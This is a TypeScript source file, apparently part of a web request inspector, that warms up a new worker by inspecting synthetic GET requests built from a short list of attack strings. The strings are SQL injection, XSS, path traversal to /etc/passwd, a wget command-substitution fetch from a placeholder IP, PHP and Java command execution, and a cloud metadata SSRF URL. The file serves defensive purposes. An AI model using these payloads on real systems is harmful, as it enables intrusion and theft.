// Has a new worker judge and describe a few attacks of its own, so that the first real one finds code compiled and tables built:
// alone it would take 5 to 14 ms, and a request has 10. What comes out is dropped.
import { align8, fixedBytes, Word, wordsPerSpan } from '../batch/record-layout.js'
import { RecordReader } from '../batch/record-reader.js'
import type { BuiltInspector } from './build-inspector.js'
import type { EventWriter } from './event-writer.js'

/** One for each large family of rules that text can meet; the ruleset may have others. */
const attacks: readonly string[] = [
  "1' or '1'='1' -- ",
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '$(wget http://203.0.113.1/x.sh)',
  "<?php system('id'); ?>",
  '%{(#a=@java.lang.Runtime@getRuntime())}',
  'http://169.254.169.254/latest/meta-data/',
  '$globals',
]
const rounds = 4
const limitMs = 60

/** Takes up to 60 ms. @param now - monotonic, in ms. */
export function warmUpJudging({ inspector, prefilter }: BuiltInspector, writer: EventWriter, now: () => number): void {
  const deadlineMs = now() + limitMs
  prefilter?.withoutBounds(() => {
    for (let round = 0; round < rounds; round++) {
      for (const attack of attacks) {
        if (now() > deadlineMs) return
        const record = recordOf(`/search/${round}?q=${encodeURIComponent(attack)}&page=1`)
        writer.write(record, inspector.inspect(record), 0, 0)
      }
    }
  })
}

const headers = [
  ['host', 'warm-up.invalid'],
  ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101'],
  ['accept', 'text/html,application/json;q=0.9'],
  ['cookie', 'session=0123456789abcdef'],
] as const

/** A GET as the listener writes it. */
function recordOf(target: string): RecordReader {
  const pieces = ['GET', target, ...headers.flat()].map((piece) => Buffer.from(piece))
  const byteCount = pieces.reduce((sum, { length }) => sum + length, 0)
  const spansStart = align8(fixedBytes + byteCount)
  const byteLength = align8(spansStart + headers.length * wordsPerSpan * Int32Array.BYTES_PER_ELEMENT)
  const slab = new SharedArrayBuffer(byteLength)
  const words = new Int32Array(slab)
  const ranges: number[] = []
  let position = fixedBytes
  for (const piece of pieces) {
    Buffer.from(slab).set(piece, position)
    ranges.push(position, position + piece.length)
    position += piece.length
  }
  const [methodStart = 0, methodEnd = 0, targetStart = 0, targetEnd = 0, ...spans] = ranges
  words.set(spans, spansStart / Int32Array.BYTES_PER_ELEMENT)
  words[Word.byteLength] = byteLength
  words[Word.methodId] = -1
  words[Word.methodStart] = methodStart
  words[Word.methodEnd] = methodEnd
  words[Word.targetStart] = targetStart
  words[Word.targetEnd] = targetEnd
  words[Word.httpVersion] = 11
  words[Word.headerCount] = headers.length
  words[Word.spansStart] = spansStart
  for (const end of [Word.bodyStart, Word.bodyEnd, Word.peerStart, Word.peerEnd]) words[end] = position
  const record = new RecordReader()
  record.bind(slab)
  record.open(0)
  return record
}
